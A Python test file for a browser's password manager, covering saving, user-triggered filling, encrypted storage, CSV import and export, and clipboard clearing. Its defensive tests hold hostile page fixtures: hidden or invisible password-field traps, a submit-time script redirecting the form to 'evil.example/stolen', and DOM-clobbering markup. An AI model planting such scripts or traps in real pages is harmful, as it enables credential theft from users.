"""Passwords are kept and filled by the user's act, judged at the server and in hostile pages."""

from __future__ import annotations

from support.browser_rig import BrowserRig
from support.password_forms import FORM, HEAD, MEMORY_KEYRING, NULL_KEYRING, Passwords
from support.site import Site
from support.trusted_site import serve_trusted

_WORD = "Tr0ub4dor-&-3"
_VALUES = "[...document.querySelectorAll('input')].map(i => i.value).join('|')"


def test_a_sign_in_is_offered_kept_filled_and_changed(rig: BrowserRig, site: Site) -> None:
    site.page("127.0.0.1/", FORM.format(more=""))
    for word in (_WORD, "wrong", "newer-one"):
        inside = FORM.format(more="") if word == "wrong" else f"{HEAD}<p>welcome"
        site.page(f"127.0.0.1/in?name=ada&word={word.replace('&', '%26')}", inside)
    session = rig.start()
    passwords = Passwords(rig, session)
    session.do(MEMORY_KEYRING)
    address = f"http://127.0.0.1:{site.port}"
    # Signing in failed: the next page asks again, and nothing is offered.
    session.open(f"{address}/")
    session.wait_for("tab.key == 'form' and window.address.key.isVisible()")
    passwords.type("name", "ada")
    passwords.type("word", "wrong")
    session.do("session.loads.clear()")
    passwords.click("go")
    session.wait_for("session.loads and not tab.loading and tab.sign_ins._sent is None")
    passwords.wait_for("card is None")
    # It worked: offered, kept when the user says so.
    passwords.type("name", "ada")
    passwords.type("word", _WORD)
    passwords.click("go")
    passwords.wait_for("card is not None")
    assert passwords.kept() == []
    passwords.do("card.yes.click()")
    passwords.wait_for("card is None")
    assert passwords.kept() == [[address, "ada", _WORD]]
    sealed = (rig.profile / "passwords.sealed").read_bytes()
    assert b"ada" not in sealed
    assert _WORD.encode() not in sealed
    # Nothing is filled before the user's act; then it arrives at the server.
    session.open(f"{address}/")
    assert session.script(_VALUES) == "|"
    passwords.fill()
    session.wait_for_script(_VALUES, f"ada|{_WORD}")
    before = len(site.arrived)
    passwords.click("go")
    session.wait_for("'/in?' in tab.urlstr and not tab.loading")
    assert site.arrived[before].endswith("word=Tr0ub4dor-%26-3")
    # The same again is not offered, another one is, as a change.
    passwords.wait_for("card is None")
    session.open(f"{address}/")
    passwords.type("name", "ada")
    passwords.type("word", "newer-one")
    passwords.click("go")
    passwords.wait_for("card is not None and card.yes.text() == 'Change'")
    passwords.do("card.yes.click()")
    passwords.wait_for("card is None")
    assert passwords.kept() == [[address, "ada", "newer-one"]]
    # It got into no file in the clear but those with the address that the form led to, and no log.
    addresses = ("history", "session-")
    for file in (one for one in rig.folder.rglob("*") if one.is_file()):
        if "engine" not in file.parts and "cache" not in str(file):
            has_address = file.name.lstrip(".").startswith(addresses)  # also while it is written
            assert b"newer-one" not in file.read_bytes() or has_address, file
    assert _WORD not in rig.log()


_TRAPS = {
    "transparent": "<input type=password style='opacity:0'>",
    "faint-parent": "<div style='opacity:.1'><input type=password></div>",
    "invisible": "<input type=password style='visibility:hidden'>",
    "small": "<input type=password style='width:2px;height:2px;border:0;padding:0'>",
    "shrunk": "<input type=password style='transform:scale(.01)'>",
    "outside": "<input type=password style='position:absolute;left:-900px'>",
    "clipped": "<div style='width:1px;height:1px;overflow:hidden'><input type=password></div>",
    "cut": "<input type=password style='clip-path:inset(50%)'>",
    "filtered": "<div style='filter:opacity(0)'><input type=password></div>",
    "covered": "<input type=password><div style='position:fixed;inset:0;background:#fff'></div>",
    "none": "<input type=password style='display:none'>",
    "fixed": "<input type=password readonly>",
}


def test_hostile_pages_get_nothing(rig: BrowserRig) -> None:
    with serve_trusted(rig.folder / "home", "shop.example", "evil.example") as site:
        _meet_hostile_pages(rig, site)


def _meet_hostile_pages(rig: BrowserRig, site: Site) -> None:
    home, other = "https://shop.example", "https://evil.example"
    for name, field in _TRAPS.items():
        site.page(f"shop.example/{name}", f"{HEAD}<form action=/in>{field}</form>")
    # An honest form, with fields that nobody sees beside the ones that are filled.
    hidden = "<input style='opacity:0' name=a type=password><input hidden name=b>"
    site.page("shop.example/beside", FORM.format(more="").replace("<button", f"{hidden}<button"))
    frame = f"<iframe src='{other}/inside'></iframe>"
    site.page("shop.example/framed", f"{HEAD}{frame}")
    site.page("evil.example/inside", FORM.format(more=""))
    site.page("evil.example/", FORM.format(more=""))
    late = (
        "<script>document.forms[0].addEventListener('submit', e => {"
        f" e.target.action = '{other}/stolen'; }})</script>"
    )
    site.page("shop.example/late", FORM.format(more="") + late)
    window = late.replace("e.target.action", "e.target.target = '_blank'; e.target.action")
    site.page("shop.example/window", FORM.format(more="") + window)
    site.page("shop.example/away", FORM.format(more=f" formaction=x action={other}/stolen"
                                            ).replace("action=/in formaction=x", ""))  # fmt: skip
    clobber = "<img name=querySelectorAll><img name=activeElement><form><input name=action></form>"
    site.page("shop.example/named", FORM.format(more="") + clobber)
    lines = "".join(f"{name}.example:443 127.0.0.1:{site.port}\n" for name in ("shop", "evil"))
    session = rig.start(hosts=lines)
    passwords = Passwords(rig, session)
    session.do(MEMORY_KEYRING)
    passwords.keep((f"{home}/", "ada", _WORD))
    for name in _TRAPS:
        session.open(f"{home}/{name}")
        passwords.open_panel()
        passwords.do("[row.click() for row in panel.rows if row.isEnabled()]; panel.close()")
        passwords.wait_for("panel is None")
        script = "document.querySelector('input').value"
        session.script("1")  # what was asked before has been answered by now
        assert session.script(script) == "", name
    session.open(f"{home}/beside")
    passwords.fill()
    session.wait_for_script(_VALUES, f"ada|{_WORD}||")
    session.open(f"{home}/named")
    passwords.fill()
    session.wait_for_script(f"Document.prototype.{_VALUES[13:]}".replace(
        "querySelectorAll('input')", "querySelectorAll.call(document, 'input')").replace(
        "Document.prototype.", "[...Document.prototype.", 1), f"ada|{_WORD}|")  # fmt: skip
    # Another origin, alone or in a frame: there is nothing to be pressed.
    for place in (f"{other}/", f"{home}/framed"):
        session.open(place)
        passwords.open_panel()
        assert not passwords.value("any(row.isEnabled() for row in panel.rows)"), place
        passwords.do("panel.close()")
        passwords.wait_for("panel is None")
    # A form that turns elsewhere at the last moment does not leave, neither here nor in a window.
    for name in ("late", "window"):
        session.open(f"{home}/{name}")
        passwords.fill()
        session.wait_for_script(_VALUES, f"ada|{_WORD}")
        passwords.click("go")
        session.wait_for("len(tab.notices) == 1")
        assert session.value("tab.urlstr") == f"{home}/{name}"
    assert not [place for place in site.arrived if "stolen" in place]
    # One that says so at once is told before, and filled only when the user insists.
    session.open(f"{home}/away")
    passwords.open_panel()
    assert not passwords.value("panel.rows[0].isEnabled()")
    passwords.do("panel.agree.setChecked(True); panel.rows[0].click()")
    session.wait_for_script(_VALUES, f"ada|{_WORD}")
    passwords.click("go")
    session.wait_for("'stolen' in tab.urlstr and not tab.loading")


def test_never_here_no_keyring_and_private_windows(rig: BrowserRig, site: Site) -> None:
    site.page("login.example/", FORM.format(more=""))
    for word in ("one", "two", "three"):
        site.page(f"login.example/in?name=ada&word={word}", f"{HEAD}<p>welcome")
    session = rig.start(hosts=site.host_map())
    passwords = Passwords(rig, session)
    session.do(NULL_KEYRING)

    def sign_in(who: Passwords, word: str) -> None:
        who.session.open("http://login.example/")
        who.type("name", "ada")
        who.type("word", word)
        who.click("go")
        who.session.wait_for("'/in?' in tab.urlstr and not tab.loading")

    # A keyring that forgets is not trusted: a passphrase is asked for, and http is warned of.
    sign_in(passwords, "one")
    passwords.wait_for("card is not None and card.unlock is not None")
    assert not passwords.value("card.yes.isEnabled()")
    passwords.do("card.unlock.field.setText('horse staple'); card.unlock.again.setText('horse')\n"
                 "card.unlock.open()")  # fmt: skip
    assert not passwords.value("card.yes.isEnabled()")
    passwords.do("card.unlock.again.setText('horse staple'); card.unlock.open()")
    passwords.wait_for("card.yes.isEnabled()")
    passwords.do("card.yes.click()")
    passwords.wait_for("card is None")
    assert passwords.kept() == [["http://login.example", "ada", "one"]]
    # Not encrypted: filling takes a second yes.
    session.open("http://login.example/")
    passwords.open_panel()
    assert not passwords.value("panel.rows[0].isEnabled()")
    passwords.do("panel.agree.setChecked(True); panel.rows[0].click()")
    session.wait_for_script(_VALUES, "ada|one")
    # Never for this site.
    sign_in(passwords, "two")
    passwords.wait_for("card is not None")
    passwords.do("card.not_here.click()")
    passwords.wait_for("card is None")
    sign_in(passwords, "three")
    session.wait_for("tab.sign_ins._sent is None and tab.key != 'offer'")
    assert passwords.kept() == [["http://login.example", "ada", "one"]]
    # A private window reads the same file with the same passphrase, and keeps nothing.
    session.do("session._launcher.open_private([])")
    hidden = Passwords(rig, rig.session())
    before = (rig.profile / "passwords.sealed").read_bytes()
    sign_in(hidden, "three")
    hidden.session.open("http://login.example/")
    hidden.open_panel()
    hidden.do("panel.unlock.field.setText('wrong'); panel.unlock.open()")
    hidden.wait_for("panel.unlock._problem.isVisible()")
    hidden.do("panel.unlock.field.setText('horse staple'); panel.unlock.open()")
    hidden.wait_for("panel is not None and panel.rows")
    hidden.do("panel.agree.setChecked(True); panel.rows[0].click()")
    hidden.session.wait_for_script(_VALUES, "ada|one")
    assert hidden.session.value("tab.key") == "form"
    assert (rig.profile / "passwords.sealed").read_bytes() == before


def test_the_list_of_passwords(rig: BrowserRig) -> None:
    file = rig.folder / "chrome.csv"
    rows = "a,https://a.example/,ada,word-a,\nb,https://b.example/,bob,word-b,\n"
    file.write_text(f"name,url,username,password,note\n{rows}c,https://c.example/,x\n")
    session = rig.start()
    passwords = Passwords(rig, session)
    session.do(MEMORY_KEYRING)
    keys = "Ctrl+Alt+Shift+K"
    session.do(
        f"next(a for a in window.actions() if a.shortcut().toString() == {keys!r}).trigger()"
    )
    passwords.wait_for("listing is not None")
    # One mistake: told with its line, and nothing is stored.
    passwords.do(f"from pathlib import Path\nlisting._files.import_file(Path({str(file)!r}))")
    passwords.wait_for("'chrome.csv, line 4' in listing._note.text()")
    assert passwords.kept() == []
    file.write_text(f"name,url,username,password,note\n{rows}")
    passwords.do(f"from pathlib import Path\nlisting._files.import_file(Path({str(file)!r}))")
    passwords.wait_for("listing._tree.topLevelItemCount() == 2")
    assert passwords.value("listing._note.text()") == "2 passwords imported."
    assert passwords.value("listing._tree.topLevelItem(0).text(2)") == "•" * 10
    # Search, look, copy; the clipboard is emptied unless something else is there by then.
    passwords.do("listing._search.setText('bob'); listing._tree.topLevelItem(0).setSelected(True)")
    passwords.do("listing.show_password()")
    assert passwords.value("listing._tree.topLevelItem(0).text(2)") == "word-b"
    passwords.do("listing.copy()")
    clip = "QApplication.clipboard().text()"
    assert passwords.value(clip) == "word-b"
    passwords.do(
        "from myco_browser.ui.secret_clipboard import secret_clipboard\n"
        "session.timer = secret_clipboard()._timer\nsession.timer.start(1)"
    )
    session.wait_for("not session.timer.isActive()")
    assert passwords.value(clip) == ""
    passwords.do(
        "listing.copy(); QApplication.clipboard().setText('other'); session.timer.start(1)"
    )
    session.wait_for("not session.timer.isActive()")
    assert passwords.value(clip) == "other"
    # Delete, and undo.
    passwords.do("listing.delete()")
    passwords.wait_for("listing._back.isEnabled()")
    assert passwords.kept() == [["https://a.example", "ada", "word-a"]]
    passwords.do("listing.undo()")
    passwords.wait_for("not listing._back.isEnabled()")
    assert len(passwords.kept()) == 2
    exported = rig.folder / "out.csv"
    passwords.do(f"from pathlib import Path\nlisting._files.export_file(Path({str(exported)!r}))")
    passwords.wait_for("'in the clear' in listing._note.text()")
    assert b"word-a" in exported.read_bytes()
    assert exported.stat().st_mode & 0o077 == 0
